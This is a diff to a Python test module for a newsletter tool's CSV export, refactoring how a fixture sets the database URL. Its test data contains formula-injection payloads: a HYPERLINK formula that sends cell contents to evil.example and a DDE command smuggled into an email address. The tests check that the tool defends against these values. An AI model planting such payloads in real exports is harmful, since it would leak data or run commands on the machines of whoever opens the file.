@@ -17,6 +17,7 @@ from newsletter_mailer.csvcells import TRIGGERS, cell, restore, write_rows
 from newsletter_mailer.subscribers import SubscriberList
 from tests.helpers.webserver import ROOT
 from newsletter_mailer.state import State
+from tests.conftest import use_database
 
 runner = CliRunner()
 NAMES = ['=HYPERLINK("https://evil.example/?d="&A2,"Open")', "+1 555 0100", "-2+3", "@SUM(A1:A9)",
@@ -27,10 +28,7 @@ FORMULA_ADDRESS = "=cmd|'/ccalc'!a0@example.org"  # a valid address, and a DDE p
 @pytest.fixture
 def nl(tmp_path, monkeypatch, database_url):
     shutil.copy(ROOT / "newsletter.toml", tmp_path / "newsletter.toml")
-    if database_url:
-        monkeypatch.setenv("NEWSLETTER_DATABASE_URL", database_url)
-    else:
-        monkeypatch.delenv("NEWSLETTER_DATABASE_URL", raising=False)
+    use_database(monkeypatch, database_url)
     store = State(tmp_path / "state", database_url).audience()
     store.record([Change(f"reader{i}@example.org", "subscribed", "form", name=n) for i, n in enumerate(NAMES)]
                  + [Change(FORMULA_ADDRESS, "subscribed", "form", name="-Dash")])
